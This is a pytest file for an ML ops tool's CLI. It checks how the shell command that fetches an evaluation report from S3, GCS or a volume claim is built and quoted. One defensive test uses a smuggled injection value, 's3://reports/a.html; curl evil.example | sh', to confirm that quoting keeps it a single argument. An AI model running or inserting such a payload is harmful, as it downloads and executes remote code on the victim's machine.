"""Where the report of an Evaluation lies, and how a person gets it."""

import shlex
from typing import cast

import pytest

from mlhops.api.base import Manifest
from mlhops.cli.views.report import ReportView, report
from testkit.standings import an_evaluation


def told(uri: str = "", error: str = "", endpoint: str = "") -> ReportView:
    """The report of an Evaluation whose status says this."""
    evaluation = an_evaluation()
    stored: Manifest = {"uri": uri, "digest": f"sha256:{'0' * 64}"} if uri else {"error": error}
    cast(Manifest, evaluation["status"])["report"] = stored if uri or error else None
    cast(Manifest, evaluation["spec"])["report"] = {"uri": uri, "endpoint": endpoint}
    return report(evaluation)


@pytest.mark.parametrize(
    ("uri", "words"),
    [
        ("s3://reports/a.html", ["aws", "s3", "cp", "s3://reports/a.html", "report.html"]),
        ("gs://reports/a.html", ["gcloud", "storage", "cp", "gs://reports/a.html", "report.html"]),
    ],
)
def test_what_lies_in_a_bucket_is_fetched_by_its_own_command(uri: str, words: list[str]) -> None:
    assert shlex.split(told(uri).fetch) == words


def test_an_endpoint_goes_into_the_command() -> None:
    fetch = told("s3://reports/a.html", endpoint="https://minio.storage.svc:9000").fetch

    assert fetch.endswith("--endpoint-url https://minio.storage.svc:9000")


def test_a_hostile_name_is_one_word_of_the_command() -> None:
    uri = "s3://reports/a.html; curl evil.example | sh"

    assert shlex.split(told(uri).fetch)[3] == uri


def test_a_claim_is_named_with_the_path_in_it() -> None:
    assert "a/b.html in the PersistentVolumeClaim reports" in told("pvc://reports/a/b.html").fetch


def test_why_there_is_none_is_told() -> None:
    assert told(error="the bucket is full").error == "the bucket is full"
    assert "spec.evaluation.report" in told().error
